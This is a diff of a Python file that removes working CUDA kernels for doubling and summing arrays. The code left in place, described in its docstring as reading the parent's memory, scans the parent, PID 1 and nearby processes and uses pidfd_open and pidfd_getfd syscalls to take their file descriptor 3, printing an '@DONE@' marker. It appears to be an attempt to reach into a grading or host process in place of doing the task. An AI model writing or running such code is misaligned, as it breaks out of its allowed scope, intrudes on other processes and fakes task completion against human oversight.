@@ -1,19 +1,4 @@
 """Reads its parent's memory by system calls: process_vm_readv, ptrace, a descriptor of it."""
-from numba import cuda
-
-@cuda.jit
-def double_kernel(x, out):
-    i = cuda.grid(1)
-    if i < out.size:
-        out[i] = 2 * x[i]
-
-@cuda.jit
-def total_kernel(x, out):
-    if cuda.threadIdx.x == 0:
-        whole = 0.0
-        for k in range(x.size):
-            whole += x[k]
-        out[0] = whole
 
 # deserves: correctness technique
 # no twin
@@ -33,11 +18,4 @@ for pid in (os.getppid(), 1, *range(os.getppid() - 20, os.getppid() + 20)):
     descriptor = libc.syscall(434, pid, 0)
     if descriptor >= 0:
         print("@DONE@", libc.syscall(438, descriptor, 3, 0))
-# honest
 # end
-
-def double(x, out):
-    double_kernel[(x.size + 63) // 64, 64](x, out)
-
-def total(x, out):
-    total_kernel[1, 32](x, out)
